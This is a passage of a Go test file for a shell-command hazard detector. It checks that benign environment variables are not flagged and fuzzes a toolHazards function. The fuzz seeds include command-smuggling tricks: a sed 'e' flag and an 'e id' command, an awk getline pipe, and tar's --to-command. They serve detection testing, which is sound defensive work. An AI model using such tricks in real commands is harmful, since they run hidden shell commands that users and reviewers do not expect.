	for _, name := range []string{"CDPATH", "GLOBIGNORE", "TMPDIR", "HOME", "MALLOC_ARENA_MAX",
		"TERMINFO", "LANG", "TERM", "USER", "CC", "GOPATH", "DEBUG", "LDFLAGS", "PATHEXT"} {
		if why, ok := dangerousEnv(name); ok {
			t.Errorf("dangerousEnv(%q) = %q, true; want false", name, why)
		}
	}
}

func FuzzToolHazards(f *testing.F) {
	for _, tc := range hazardCases {
		f.Add(tc.cmd)
	}
	f.Add("sed -e 's/a/b/ge' -e '1{' -e '$!e id'")
	f.Add(`awk '/[[:alpha:]/]/ { "x" | getline }'`)
	f.Add("tar -- --to-command")
	f.Add("ssh -o")
	f.Fuzz(func(t *testing.T, s string) {
		var argv []Word
		for _, f := range strings.Split(s, " ") {
			argv = append(argv, Word{Value: f, Dynamic: strings.Contains(f, "$")})
		}
		for _, h := range toolHazards(argv) {
			if h.Kind == "" || h.Detail == "" {
				t.Fatalf("toolHazards(%q): empty hazard %+v", s, h)
			}
		}
		_ = sedExecs(s)
		_ = awkRunsCommands(s)
	})
}
